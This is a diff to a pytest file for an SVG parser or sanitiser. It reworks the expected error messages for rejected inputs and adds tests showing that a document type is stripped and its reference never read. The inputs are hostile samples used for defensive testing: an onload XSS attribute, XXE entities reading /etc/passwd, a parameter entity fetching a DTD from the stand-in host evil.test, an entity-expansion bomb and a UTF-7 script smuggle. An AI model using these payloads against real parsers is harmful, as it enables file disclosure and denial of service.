@@ -401,21 +401,17 @@ NO_DRAWINGS: dict[str, tuple[bytes, str]] = {
     "an attribute without quotes": (b"<svg onload=alert(1)/>", "line 1 is not well-formed"),
     "an entity of HTML": (b"<svg>&nbsp;</svg>", "line 1 is not well-formed"),
     "a zero byte": (b"<svg>\0</svg>", "expected UTF-8, or UTF-16"),
-    "a document type": (b"<!DOCTYPE svg><svg/>", "document type"),
-    "a public document type": (
-        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://x.test/svg11.dtd"><svg/>',
-        "document type",
-    ),
-    "an entity": (b'<!DOCTYPE svg [<!ENTITY a "b">]><svg>&a;</svg>', "document type"),
+    "a document type with something in it": (b"<!DOCTYPE svg []><svg/>", "declares entities"),
+    "an entity": (b'<!DOCTYPE svg [<!ENTITY a "b">]><svg>&a;</svg>', "declares entities"),
     "an external entity": (
         b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg><text>&a;</text></svg>',
-        "document type",
+        "declares entities",
     ),
     "an external parameter entity": (
         b'<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.test/x.dtd">%a;]><svg/>',
-        "document type",
+        "declares entities",
     ),
-    "entities of entities": (bomb(12), "document type"),
+    "entities of entities": (bomb(12), "declares entities"),
     "UTF-7": (
         b'<?xml version="1.0" encoding="UTF-7"?>+ADw-svg+AD4APA-script+AD4-x+ADw-/script+AD4-',
         "expected UTF-8, or UTF-16",
@@ -429,6 +425,23 @@ NO_DRAWINGS: dict[str, tuple[bytes, str]] = {
     "UTF-32": ("<svg/>".encode("utf-32"), "expected UTF-8, or UTF-16"),
     "Latin without saying so": ("<svg>é</svg>".encode("latin-1"), "expected UTF-8, or UTF-16"),
 }
+
+
+@pytest.mark.parametrize(
+    "type",
+    [
+        "<!DOCTYPE svg>",
+        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/1/svg11.dtd">',
+        '<!DOCTYPE svg SYSTEM "file:///etc/passwd">',
+    ],
+)
+def test_a_document_type_that_only_names_itself_is_left_out(type: str) -> None:
+    assert left_of(type.encode() + drawing("<g>x</g>")) == "<g/>"
+
+
+def test_what_a_document_type_refers_to_is_not_read() -> None:
+    type = b'<!DOCTYPE svg SYSTEM "file:///etc/passwd">'
+    assert left_of(type + drawing("<text>a&root;b</text>")) == "<text>ab</text>"
 
 
 @pytest.mark.parametrize(("data", "words"), NO_DRAWINGS.values(), ids=NO_DRAWINGS)
